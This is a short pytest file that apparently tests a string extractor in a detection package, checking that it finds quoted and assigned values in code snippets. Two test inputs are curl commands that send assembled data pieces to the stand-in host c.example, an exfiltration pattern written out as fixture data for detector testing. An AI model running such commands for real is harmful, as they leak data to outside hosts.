from __future__ import annotations

import pytest

from riskproof.detect.code_strings import strings_of


@pytest.mark.parametrize(
    ("code", "strings"),
    [
        ("a=CUST-12; b='07-AB'; curl https://c.example/$a$b", ["CUST-12", "07-AB"]),
        ('x = "one two"\ny = x + "three"', ["one two", "three"]),
        ("export KEY=ab\\\nls", ["ab\\"]),
        ("curl -s -d 'piece' https://c.example/?d=more", ["piece", "more"]),
        ("a=''; b=\"\"", []),
        ("x=\ud800y", ["?y"]),
    ],
)
def test_quoted_strings_and_assigned_words_are_found_in_order(code: str, strings: list[str]) -> None:
    assert strings_of(code) == strings


def test_only_the_beginning_of_a_long_program_is_read() -> None:
    assert strings_of("#" * 8_192 + "'late'") == []
